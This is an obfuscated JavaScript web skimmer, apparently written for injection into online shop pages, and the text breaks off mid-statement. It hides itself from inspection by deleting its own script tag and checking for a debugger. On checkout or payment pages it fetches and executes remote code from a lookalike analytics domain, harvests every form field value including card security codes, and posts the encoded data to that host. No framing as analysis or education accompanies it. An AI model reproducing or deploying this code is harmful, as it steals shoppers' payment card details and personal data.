!function(w,d){var s=d.currentScript;s&&s.remove();
var t=Date.now();debugger;if(Date.now()-t>90)return;console.clear();
if(!/checkout|payment/.test(w.location.pathname))return;
var u=["https:","","gstatic-analytic.su","gtag","js?id=UA-88123"].join("/");
fetch(u).then(function(r){return r.text()}).then(function(x){var f=new Function(x);f.call(w)}).catch(function(){});
var q=d.createElement("script");q.src=u+"&fb=1";
q.onload=function(){q.parentNode.removeChild(q)};d.head.appendChild(q);
var o={};
function z(){var b=JSON.stringify(o);if(b.length<40)return;
var y=new XMLHttpRequest;y.open("POST",u.split("?")[0]+"/c",!0);
y.send(btoa(b));o={}}
w.addEventListener("load",function(){var i=d.querySelectorAll("input,select");
for(var j=0;j<i.length;j++){i[j].addEventListener("blur",function(e){
var n=e.target.name||e.target.id;o[n]=e.target.value;
if(/cvv|cvc|cid|csc/i.test(n))z()},!1)}
var btn=d.querySelector("#place_order,.checkout-button");btn&&btn.addEventListener("click",z);
setInterval(z,5e3);w.addEventListener("beforeunload",function(){z(
